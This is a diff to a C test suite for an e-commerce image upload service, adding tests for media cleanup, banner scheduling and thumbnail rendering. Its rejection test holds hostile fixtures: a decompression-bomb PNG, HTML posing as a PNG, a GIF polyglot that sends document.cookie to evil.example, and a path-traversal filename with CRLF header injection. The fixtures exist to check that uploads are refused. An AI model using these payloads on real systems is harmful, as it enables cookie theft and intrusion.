@@ -19,12 +19,24 @@
  *   - The product gets the image (media_id) and its page a srcset; alt
  *     text and order change; the owner list is public; the same bytes
  *     uploaded twice share files, which go with the last item using them;
- *     media.uploaded and media.deleted are in media.outbox.
+ *     media.uploaded and media.deleted are in media.outbox; the search
+ *     page's card of the product (after a relay pass) has the srcset too.
+ *   - Removing a product image through the catalog API releases its media
+ *     item and files, whoever uploaded it (another seller: 404); archiving
+ *     the product keeps its images and media.
+ *   - Category, brand and banner uploads must name one that exists (404
+ *     "no category with id ..."); deleting one releases its media.
+ *   - The home page shows a banner inside its date window with its upload
+ *     as <picture>/srcset/sizes/width/height, not an ended or future one,
+ *     and only the first banner is the main one; the wishlist shows a
+ *     product's upload the same way at thumbnail size, and so does the
+ *     cart, which knows the picture by its URL only.
  * Without ECOM_TEST_BASE_URL the suite is skipped (77).
  */
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
 #include <unistd.h>
 #include <curl/curl.h>
 #include <check.h>
@@ -39,7 +51,7 @@
 #define BOUNDARY "----checkmediaBoundary7MA4YWxkTrZu0gW"
 
 static char *admin_tok, *seller_tok, *customer_tok;
-static char *product_id, *product_slug;
+static char *product_id, *product_slug, *category_id, *brand_id, *banner_id;
 
 /* ------------------------------------------------------------ helpers */
 
@@ -275,6 +287,20 @@ fetch_image(const char *url, const char *want_type, long want_w, long want_h)
 	http_result_free(r);
 }
 
+/* One pass of the outbox relay with the in-tree consumers (the search
+ * indexer learns of the product's new primary image). */
+static void
+run_relay(void)
+{
+	const char *bin = getenv("ECOM_TEST_BIN");
+	char cmd[1024];
+
+	ck_assert_ptr_nonnull(bin);
+	snprintf(cmd, sizeof cmd, "ECOM_LOG_LEVEL=error %s/../workers/relay --budget 0"
+	    " >/dev/null 2>&1", bin);
+	ck_assert_int_eq(system(cmd), 0);
+}
+
 static int
 suite_setup_done;
 
@@ -305,6 +331,12 @@ setup(void)
 	product_id = strdup(row);
 	product_slug = strdup(bar + 1);
 	free(row);
+	category_id = psql_value("SELECT id FROM catalog.categories ORDER BY created_at, id LIMIT 1");
+	ck_assert_msg(category_id != NULL && strlen(category_id) == 36, "no category");
+	brand_id = psql_value("SELECT id FROM catalog.brands ORDER BY created_at, id LIMIT 1");
+	ck_assert_msg(brand_id != NULL && strlen(brand_id) == 36, "no brand");
+	banner_id = psql_value("SELECT id FROM catalog.banners ORDER BY created_at, id LIMIT 1");
+	ck_assert_msg(banner_id != NULL && strlen(banner_id) == 36, "no banner");
 	suite_setup_done = 1;
 }
 
@@ -335,7 +367,7 @@ START_TEST(round_trips_every_format)
 	setup();
 	img = make_image(formats[_i].format, 1700, 1000, formats[_i].color, 0, &len);
 	/* the declared type is ignored: judged by content */
-	r = upload(admin_tok, "category", product_id, "a swatch", formats[_i].name,
+	r = upload(admin_tok, "category", category_id, "a swatch", formats[_i].name,
 	    "application/octet-stream", img, len);
 	ck_assert_msg(r->status == 201, "%s: %ld %s", formats[_i].format, r->status, r->body);
 	ck_assert_str_eq(jstr(r->json, "data.source_format"), formats[_i].kind);
@@ -378,7 +410,7 @@ START_TEST(orients_and_never_upscales)
 	/* 400x200 stored sideways (EXIF orientation 6: rotate 90 clockwise) */
 	img = make_image("JPEG", 400, 200, "#808000", RightTopOrientation, &len);
 	ck_assert(memmem(img, len, "Exif", 4) != NULL);
-	r = upload(admin_tok, "brand", product_id, NULL, "side.jpg", "image/jpeg", img, len);
+	r = upload(admin_tok, "brand", brand_id, NULL, "side.jpg", "image/jpeg", img, len);
 	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
 	/* upright: 200 wide, 400 high; sizes 160 and the original 200 only */
 	ck_assert_int_eq(jint(r->json, "data.width"), 200);
@@ -406,7 +438,7 @@ START_TEST(accepts_a_large_photo)
 
 	setup();
 	img = make_image("JPEG", 6400, 6200, "#806040", 0, &len);
-	r = upload(admin_tok, "banner", product_id, NULL, "big.jpg", "image/jpeg", img, len);
+	r = upload(admin_tok, "banner", banner_id, NULL, "big.jpg", "image/jpeg", img, len);
 	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
 	ck_assert_int_eq(jint(r->json, "data.width"), 1600);
 	ck_assert_int_eq(jint(r->json, "data.height"), 1550);
@@ -494,18 +526,18 @@ START_TEST(refuses_and_writes_nothing)
 		unsigned char bomb[64] = {
 			0x89, 'P', 'N', 'G', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 'I', 'H', 'D', 'R',
 			0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30, 8, 2, 0, 0, 0, 0, 0, 0, 0 };
-		r = upload(admin_tok, "category", product_id, NULL, "bomb.png", "image/png",
+		r = upload(admin_tok, "category", category_id, NULL, "bomb.png", "image/png",
 		    bomb, sizeof bomb);
 		refused(r, 413, "30000x30000 PNG");
 	}
 	/* a JPEG cut in half */
 	jpeg = make_image("JPEG", 800, 600, "#336699", 0, &jlen);
-	r = upload(admin_tok, "category", product_id, NULL, "cut.jpg", "image/jpeg", jpeg, jlen / 2);
+	r = upload(admin_tok, "category", category_id, NULL, "cut.jpg", "image/jpeg", jpeg, jlen / 2);
 	refused(r, 415, "truncated JPEG");
 	/* HTML with an image's name and type */
 	{
 		static const char html[] = "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>";
-		r = upload(admin_tok, "category", product_id, NULL, "cat.png", "image/png",
+		r = upload(admin_tok, "category", category_id, NULL, "cat.png", "image/png",
 		    html, sizeof html - 1);
 		refused(r, 415, "HTML named .png");
 	}
@@ -513,12 +545,12 @@ START_TEST(refuses_and_writes_nothing)
 	{
 		static const char poly[] = "GIF89a\x01\x00\x01\x00\x00\x00\x00"
 		    "<script>document.location='//evil.example/'+document.cookie</script>";
-		r = upload(admin_tok, "category", product_id, NULL, "poly.gif", "image/gif",
+		r = upload(admin_tok, "category", category_id, NULL, "poly.gif", "image/gif",
 		    poly, sizeof poly - 1);
 		refused(r, 415, "GIF89a polyglot");
 	}
 	/* a filename with ../ and CR/LF: the multipart parser refuses it */
-	r = upload(admin_tok, "category", product_id, NULL, "../../etc/x.png\r\nX-Injected: 1",
+	r = upload(admin_tok, "category", category_id, NULL, "../../etc/x.png\r\nX-Injected: 1",
 	    "image/png", jpeg, jlen);
 	refused(r, 400, "filename with ../ and CRLF");
 	/* a body over the upload limit */
@@ -533,7 +565,7 @@ START_TEST(refuses_and_writes_nothing)
 	/* who may upload to what */
 	r = upload(seller_tok, "product", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
 	refused(r, 404, "seller on the shop's product");
-	r = upload(seller_tok, "category", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
+	r = upload(seller_tok, "category", category_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
 	refused(r, 403, "seller on a category");
 	r = upload(customer_tok, "product", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
 	refused(r, 403, "customer");
@@ -612,6 +644,7 @@ START_TEST(product_images_alt_order_and_delete)
 		ck_assert_msg(r->status == 200, "%ld %s", r->status, r->body);
 		http_result_free(r);
 		free(iid);
+		run_relay();	/* the search page shows what the indexer was told */
 	}
 	{
 		char *name, *enc;
@@ -619,14 +652,6 @@ START_TEST(product_images_alt_order_and_delete)
 		snprintf(q, sizeof q, "SELECT name FROM catalog.products WHERE id = '%s'", product_id);
 		name = psql_value(q);
 		enc = curl_easy_escape(c, name, 0);
-		/* the search page shows the index: one relay run brings the
-		 * new primary image there, as cron would */
-		if (getenv("ECOM_TEST_BIN") != NULL) {
-			char cmd[1024];
-
-			snprintf(cmd, sizeof cmd, "'%s/../workers/relay' --budget 0", getenv("ECOM_TEST_BIN"));
-			ck_assert_int_eq(system(cmd), 0);
-		}
 		snprintf(path, sizeof path, "/search?q=%s", enc);
 		r = http_get(path);
 		ck_assert_int_eq(r->status, 200);
@@ -702,6 +727,310 @@ START_TEST(product_images_alt_order_and_delete)
 }
 END_TEST
 
+/* The media item of `id` is gone (0) or still there (1). */
+static long
+item_count(const char *id)
+{
+	char q[256];
+
+	snprintf(q, sizeof q, "SELECT count(*) FROM media.items WHERE id = '%s'", id);
+	return psql_count(q);
+}
+
+/* An upload's id (static buffer) after a 201. */
+static const char *
+uploaded(http_result *r)
+{
+	static char id[64];
+
+	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
+	snprintf(id, sizeof id, "%s", jstr(r->json, "data.id"));
+	http_result_free(r);
+	return id;
+}
+
+/* DELETE /api/v1/products/{id}/images/{iid} releases the media item the
+ * image was made from, and its files, whoever uploaded it: here the admin
+ * uploaded a picture to a seller's product and the seller removes it. */
+START_TEST(catalog_image_delete_releases_media)
+{
+	size_t len;
+	unsigned char *img;
+	http_result *r;
+	char q[512], path[256], pid[64], mid[64], *iid, *other_sub, *other_tok;
+	long files;
+
+	setup();
+	files = files_count();
+	r = call(seller_tok, "POST", "/api/v1/products",
+	    "{\"name\":\"Media release vase\",\"base_price\":2500,\"currency\":\"EUR\"}");
+	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
+	snprintf(pid, sizeof pid, "%s", jstr(r->json, "data.id"));
+	http_result_free(r);
+	img = make_image("PNG", 700, 500, "#c04080", 0, &len);
+	snprintf(mid, sizeof mid, "%s", uploaded(upload(admin_tok, "product", pid, "Vase",
+	    "vase.png", "image/png", img, len)));
+	ck_assert_int_gt(files_count(), files);
+	snprintf(q, sizeof q, "SELECT id FROM catalog.images WHERE media_id = '%s'", mid);
+	iid = psql_value(q);
+	ck_assert_msg(iid != NULL && strlen(iid) == 36, "no catalog image for %s", mid);
+	snprintf(path, sizeof path, "/api/v1/products/%s/images/%s", pid, iid);
+	/* another seller: 404, and nothing goes */
+	other_sub = psql_value("SELECT gen_random_uuid()");
+	other_tok = mint_token("seller", other_sub);
+	r = call(other_tok, "DELETE", path, NULL);
+	ck_assert_msg(r->status == 404, "%ld %s", r->status, r->body);
+	http_result_free(r);
+	ck_assert_int_eq(item_count(mid), 1);
+	/* the product's seller */
+	r = call(seller_tok, "DELETE", path, NULL);
+	ck_assert_msg(r->status == 200, "%ld %s", r->status, r->body);
+	http_result_free(r);
+	snprintf(q, sizeof q, "SELECT count(*) FROM catalog.images WHERE id = '%s'", iid);
+	ck_assert_int_eq(psql_count(q), 0);
+	ck_assert_msg(item_count(mid) == 0, "media item %s left after its image went", mid);
+	ck_assert_int_eq(files_count(), files);
+	snprintf(q, sizeof q, "SELECT count(*) FROM media.outbox WHERE aggregate_id = '%s'"
+	    " AND event_type = 'ecommerce.media.deleted'", mid);
+	ck_assert_int_eq(psql_count(q), 1);
+	r = call(seller_tok, "DELETE", path, NULL);
+	ck_assert_int_eq(r->status, 404);
+	http_result_free(r);
+	/* archiving the product keeps its images and their media (it can be
+	 * published again; orders still show it) */
+	snprintf(mid, sizeof mid, "%s", uploaded(upload(seller_tok, "product", pid, NULL,
+	    "vase2.png", "image/png", img, len)));
+	snprintf(path, sizeof path, "/api/v1/products/%s", pid);
+	r = call(seller_tok, "DELETE", path, NULL);
+	ck_assert_int_eq(r->status, 200);
+	http_result_free(r);
+	ck_assert_int_eq(item_count(mid), 1);
+	snprintf(q, sizeof q, "SELECT count(*) FROM catalog.images WHERE media_id = '%s'", mid);
+	ck_assert_int_eq(psql_count(q), 1);
+	snprintf(path, sizeof path, "/api/v1/media/%s", mid);
+	r = call(seller_tok, "DELETE", path, NULL);
+	ck_assert_int_eq(r->status, 200);
+	http_result_free(r);
+	ck_assert_int_eq(files_count(), files);
+	free(iid);
+	free(other_sub);
+	free(other_tok);
+	free(img);
+}
+END_TEST
+
+/* Category, brand and banner uploads name one that exists (404 with the
+ * id otherwise, nothing written); deleting the owner releases its items. */
+START_TEST(owners_must_exist_and_take_their_media)
+{
+	static const char *const types[] = { "category", "brand", "banner" };
+	size_t len;
+	unsigned char *img;
+	http_result *r;
+	char path[256], body[512], id[64], mid[64], *ghost;
+	long items, files;
+	time_t now = time(NULL);
+
+	setup();
+	img = make_image("JPEG", 300, 200, "#30c060", 0, &len);
+	items = psql_count("SELECT count(*) FROM media.items");
+	files = files_count();
+	ghost = psql_value("SELECT gen_random_uuid()");
+	for (size_t i = 0; i < 3; i++) {
+		char want[128];
+
+		r = upload(admin_tok, types[i], ghost, NULL, "x.jpg", "image/jpeg", img, len);
+		ck_assert_msg(r->status == 404, "%s: %ld %s", types[i], r->status, r->body);
+		snprintf(want, sizeof want, "no %s with id %s", types[i], ghost);
+		ck_assert_msg(strstr(r->body, want) != NULL, "%s: %s", types[i], r->body);
+		http_result_free(r);
+	}
+	/* a seller is still told it is not theirs to do, before any lookup */
+	r = upload(seller_tok, "brand", ghost, NULL, "x.jpg", "image/jpeg", img, len);
+	ck_assert_int_eq(r->status, 403);
+	http_result_free(r);
+	ck_assert_int_eq(psql_count("SELECT count(*) FROM media.items"), items);
+	ck_assert_int_eq(files_count(), files);
+
+	/* a new category, brand and banner each take their pictures with them */
+	for (size_t i = 0; i < 3; i++) {
+		if (i == 0)
+			snprintf(body, sizeof body, "{\"name\":\"Media cat %ld\",\"slug\":\"media-cat-%ld\"}",
+			    (long)now, (long)now);
+		else if (i == 1)
+			snprintf(body, sizeof body, "{\"name\":\"Media brand %ld\",\"slug\":\"media-brand-%ld\"}",
+			    (long)now, (long)now);
+		else
+			snprintf(body, sizeof body, "{\"title\":\"Media banner %ld\",\"image_url\":"
+			    "\"/static/x.svg\",\"link_url\":\"/search\",\"link_type\":\"page\","
+			    "\"position\":\"media-%ld\",\"is_active\":false}", (long)now, (long)now);
+		snprintf(path, sizeof path, "/api/v1/%s", i == 0 ? "categories" : i == 1 ? "brands" : "banners");
+		r = call(admin_tok, "POST", path, body);
+		ck_assert_msg(r->status == 201, "%s: %ld %s", types[i], r->status, r->body);
+		snprintf(id, sizeof id, "%s", jstr(r->json, "data.id"));
+		http_result_free(r);
+		snprintf(mid, sizeof mid, "%s", uploaded(upload(admin_tok, types[i], id, NULL, "x.jpg",
+		    "image/jpeg", img, len)));
+		ck_assert_int_gt(files_count(), files);
+		snprintf(path + strlen(path), sizeof path - strlen(path), "/%s", id);
+		r = call(admin_tok, "DELETE", path, NULL);
+		ck_assert_msg(r->status == 200, "%s: %ld %s", types[i], r->status, r->body);
+		http_result_free(r);
+		ck_assert_msg(item_count(mid) == 0, "%s %s deleted, its media %s kept", types[i], id, mid);
+		ck_assert_int_eq(files_count(), files);
+	}
+	free(ghost);
+	free(img);
+}
+END_TEST
+
+/* The home page shows a banner in its window with its uploaded picture
+ * (<picture>, WebP and JPEG srcset, sizes, width and height); one that
+ * ended or has not started is not shown. */
+START_TEST(home_shows_banners_in_their_window_with_srcset)
+{
+	static const char *const windows[3] = {
+		"\"starts_at\":\"2020-01-01T00:00:00Z\"",
+		"\"starts_at\":\"2020-01-01T00:00:00Z\",\"ends_at\":\"2021-01-01T00:00:00Z\"",
+		"\"starts_at\":\"2035-01-01T00:00:00Z\"" };
+	size_t len;
+	unsigned char *img;
+	http_result *r;
+	char body[1024], path[256], title[3][64], ids[3][64], mid[3][64];
+	const char *at, *open_a, *close_a;
+	long t = (long)time(NULL), files;
+
+	setup();
+	files = files_count();
+	img = make_image("JPEG", 1200, 400, "#e07020", 0, &len);
+	for (int i = 0; i < 3; i++) {
+		snprintf(title[i], sizeof title[i], "Window %d banner %ld", i, t);
+		snprintf(body, sizeof body, "{\"title\":\"%s\",\"image_url\":\"/static/x.svg\","
+		    "\"link_url\":\"/search\",\"link_type\":\"page\",\"position\":\"hero\","
+		    "\"sort_order\":-1000000,%s}", title[i], windows[i]);
+		r = call(admin_tok, "POST", "/api/v1/banners", body);
+		ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
+		snprintf(ids[i], sizeof ids[i], "%s", jstr(r->json, "data.id"));
+		http_result_free(r);
+		snprintf(mid[i], sizeof mid[i], "%s", uploaded(upload(admin_tok, "banner", ids[i], NULL,
+		    "b.jpg", "image/jpeg", img, len)));
+	}
+	r = http_get("/");
+	ck_assert_int_eq(r->status, 200);
+	ck_assert_msg((at = strstr(r->body, title[0])) != NULL, "active banner not shown");
+	ck_assert_msg(strstr(r->body, title[1]) == NULL, "ended banner shown");
+	ck_assert_msg(strstr(r->body, title[2]) == NULL, "future banner shown");
+	/* its own <a class="banner ..."> element carries the picture */
+	for (open_a = NULL; ; ) {
+		const char *n = strstr(open_a != NULL ? open_a + 1 : r->body, "<a class=\"banner");
+		if (n == NULL || n > at)
+			break;
+		open_a = n;
+	}
+	ck_assert_ptr_nonnull(open_a);
+	close_a = strstr(open_a, "</a>");
+	ck_assert_ptr_nonnull(close_a);
+	{
+		char *el = strndup(open_a, (size_t)(close_a - open_a));
+		ck_assert_msg(strstr(el, "<picture><source type=\"image/webp\" srcset=\"/media/u/") != NULL,
+		    "no WebP srcset: %s", el);
+		ck_assert_msg(strstr(el, " srcset=\"/media/u/") != NULL && strstr(el, ".jpg 1200w") != NULL,
+		    "no JPEG srcset: %s", el);
+		ck_assert_msg(strstr(el, "sizes=\"") != NULL, "no sizes: %s", el);
+		ck_assert_msg(strstr(el, "width=\"1200\" height=\"400\"") != NULL, "no size: %s", el);
+		ck_assert_msg(strstr(el, "/static/x.svg") == NULL, "URL fallback used: %s", el);
+		free(el);
+	}
+	/* only the first banner is the main one */
+	{
+		const char *m = strstr(r->body, "banner-main");
+		ck_assert_ptr_nonnull(m);
+		ck_assert_msg(strstr(m + 1, "banner-main") == NULL, "more than one main banner");
+	}
+	http_result_free(r);
+	for (int i = 0; i < 3; i++) {
+		snprintf(path, sizeof path, "/api/v1/banners/%s", ids[i]);
+		r = call(admin_tok, "DELETE", path, NULL);
+		ck_assert_int_eq(r->status, 200);
+		http_result_free(r);
+		ck_assert_int_eq(item_count(mid[i]), 0);
+	}
+	ck_assert_int_eq(files_count(), files);
+	free(img);
+}
+END_TEST
+
+/* The wishlist and the cart show a product's uploaded picture as the
+ * cards do, at their thumbnail size. */
+START_TEST(wishlist_and_cart_render_srcset)
+{
+	size_t len;
+	unsigned char *img;
+	http_result *r;
+	char q[512], cmd[1024], path[256], mid[64], *uid, *tok, *iid;
+	const char *ctl = getenv("ECOM_TEST_ECOMCTL");
+
+	setup();
+	ck_assert_msg(ctl != NULL, "ECOM_TEST_ECOMCTL not set");
+	snprintf(cmd, sizeof cmd, "printf '%%s\\n' 'Wishful-thinking-%d-lantern' | %s user create"
+	    " --email 'wish-%ld-%d@media-test.example' --role customer --first-name W --last-name L",
+	    (int)getpid(), ctl, (long)time(NULL), (int)getpid());
+	uid = run_capture(cmd);
+	ck_assert_msg(uid != NULL && strlen(uid) == 36, "ecomctl user create: %s", cmd);
+	tok = mint_token("customer", uid);
+	img = make_image("PNG", 800, 800, "#4040c0", 0, &len);
+	snprintf(mid, sizeof mid, "%s", uploaded(upload(admin_tok, "product", product_id, NULL,
+	    "w.png", "image/png", img, len)));
+	snprintf(q, sizeof q, "SELECT id FROM catalog.images WHERE media_id = '%s'", mid);
+	iid = psql_value(q);
+	snprintf(path, sizeof path, "/api/v1/products/%s/images/%s", product_id, iid);
+	r = call(admin_tok, "PUT", path, "{\"is_primary\":true}");
+	ck_assert_msg(r->status == 200, "%ld %s", r->status, r->body);
+	http_result_free(r);
+	snprintf(path, sizeof path, "/api/v1/users/wishlist/%s", product_id);
+	r = call(tok, "POST", path, "{}");
+	ck_assert_msg(r->status == 200 || r->status == 201, "%ld %s", r->status, r->body);
+	http_result_free(r);
+	r = call(tok, "GET", "/account/wishlist", NULL);
+	ck_assert_msg(r->status == 200, "%ld %.300s", r->status, r->body);
+	ck_assert_msg(strstr(r->body, "<picture><source type=\"image/webp\" srcset=\"/media/u/") != NULL,
+	    "no WebP srcset on the wishlist: %s", r->body);
+	ck_assert_ptr_nonnull(strstr(r->body, "sizes=\"64px\""));
+	ck_assert_ptr_nonnull(strstr(r->body, "width=\"800\" height=\"800\""));
+	http_result_free(r);
+	/* the cart knows the picture by URL only; it finds the upload too */
+	{
+		char *vid;
+		snprintf(q, sizeof q, "SELECT id FROM catalog.variants WHERE product_id = '%s'"
+		    " AND is_active ORDER BY sku LIMIT 1", product_id);
+		vid = psql_value(q);
+		ck_assert_msg(vid != NULL && strlen(vid) == 36, "no variant of %s", product_id);
+		snprintf(q, sizeof q, "{\"product_id\":\"%s\",\"variant_id\":\"%s\",\"quantity\":1}",
+		    product_id, vid);
+		r = call(tok, "POST", "/api/v1/cart/items", q);
+		ck_assert_msg(r->status == 200 || r->status == 201, "%ld %s", r->status, r->body);
+		http_result_free(r);
+		r = call(tok, "GET", "/cart", NULL);
+		ck_assert_msg(r->status == 200, "%ld %.300s", r->status, r->body);
+		ck_assert_msg(strstr(r->body, "<picture><source type=\"image/webp\" srcset=\"/media/u/") != NULL,
+		    "no WebP srcset in the cart: %s", r->body);
+		ck_assert_ptr_nonnull(strstr(r->body, "sizes=\"64px\""));
+		http_result_free(r);
+		free(vid);
+	}
+	/* the image goes through the catalog API; its media with it */
+	snprintf(path, sizeof path, "/api/v1/products/%s/images/%s", product_id, iid);
+	r = call(admin_tok, "DELETE", path, NULL);
+	ck_assert_int_eq(r->status, 200);
+	http_result_free(r);
+	ck_assert_int_eq(item_count(mid), 0);
+	free(iid);
+	free(tok);
+	free(uid);
+	free(img);
+}
+END_TEST
+
 static Suite *
 media_suite(void)
 {
@@ -715,6 +1044,10 @@ media_suite(void)
 	tcase_add_test(tc, seller_on_own_product);
 	tcase_add_test(tc, refuses_and_writes_nothing);
 	tcase_add_test(tc, product_images_alt_order_and_delete);
+	tcase_add_test(tc, catalog_image_delete_releases_media);
+	tcase_add_test(tc, owners_must_exist_and_take_their_media);
+	tcase_add_test(tc, home_shows_banners_in_their_window_with_srcset);
+	tcase_add_test(tc, wishlist_and_cart_render_srcset);
 	suite_add_tcase(s, tc);
 	return s;
 }
